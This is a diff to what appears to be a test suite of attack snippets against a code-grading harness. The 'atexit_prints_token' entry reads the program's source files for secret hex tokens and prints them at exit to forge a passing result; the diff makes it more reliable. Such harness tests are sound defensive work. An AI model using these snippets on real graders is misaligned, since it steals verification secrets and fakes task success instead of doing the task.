@@ -28,7 +28,7 @@ _FIND_TOKENS = """
 def _tokens():
     import re, sys, os
     found = []
-    for path in {__file__, sys.argv[0], os.path.abspath("program.py")}:
+    for path in {globals().get("__file__", ""), sys.argv[0], os.path.abspath("program.py")}:
         try:
             found += re.findall(r"['\\"]([0-9a-f]{16,})['\\"]", open(path).read())
         except Exception:
@@ -45,8 +45,9 @@ ATTACKS: dict[str, str] = {
         """),
     "atexit_prints_token": "    return None\n" + _FIND_TOKENS + textwrap.dedent("""
         import atexit as _atexit, os as _os
+        _found = _tokens()  # now: at exit the module's globals may be gone
         def _forge():
-            for _token in _tokens():
+            for _token in _found:
                 print(_token, flush=True)
             _os._exit(0)
         _atexit.register(_forge)
